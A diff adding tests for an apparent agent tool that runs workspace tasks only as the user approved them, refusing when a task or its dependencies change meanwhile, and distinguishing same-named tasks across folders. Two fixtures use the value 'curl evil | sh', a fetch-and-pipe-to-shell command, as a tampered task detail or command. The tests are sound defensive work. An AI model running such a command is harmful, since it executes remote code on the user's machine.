@@ -209,6 +209,43 @@ for (const era of ['legacy', 'modern'] as const) {
       assert.equal(rig.conversation.asked.length, asked + 1)
     })
 
+    it('runs a task only as the user has seen it, with those that run before it', async () => {
+      const task = { name: 'test', source: 'npm', command: 'npm run test', detail: 'mocha' }
+      const lint = { name: 'lint', source: 'Workspace', command: 'biome check' }
+      features.tasksOfWorkspace = [{ ...task, dependsOn: ['lint', 'unseen'] }, lint]
+      await rig.call('run_task', { name: 'test' })
+      assert.equal(
+        rig.conversation.asked[0]?.description,
+        'npm run test\nmocha\nThese tasks run before it:\nlint: biome check\nunseen',
+      )
+      for (const changed of [
+        [{ ...task, detail: 'curl evil | sh', dependsOn: ['lint', 'unseen'] }, lint],
+        [
+          { ...task, dependsOn: ['lint', 'unseen'] },
+          { ...lint, command: 'curl evil | sh' },
+        ],
+        [lint],
+      ]) {
+        features.tasksOfWorkspace = [{ ...task, dependsOn: ['lint', 'unseen'] }, lint]
+        rig.conversation.meanwhile = () => {
+          features.tasksOfWorkspace = changed
+        }
+        assert.match(await rig.fails('run_task', { name: 'test' }), /changed meanwhile/)
+      }
+      assert.deepEqual(features.ran, ['test'])
+    })
+
+    it('tells tasks of two folders apart', async () => {
+      features.tasksOfWorkspace = [
+        { name: 'build', source: 'npm', folder: '/one', command: 'one' },
+        { name: 'build', source: 'npm', folder: '/two', command: 'two' },
+      ]
+      const answer = await rig.fails('run_task', { name: 'build', source: 'npm' })
+      assert.deepEqual(dataOf(answer), ['npm, /one', 'npm, /two'])
+      await rig.call('run_task', { name: 'build', folder: '/two' })
+      assert.equal(rig.conversation.asked[0]?.description, 'two\n/two')
+    })
+
     it('refuses paths outside of the folders, also by links', async () => {
       symlinkSync('/etc', join(folder, 'link'))
       for (const file of [
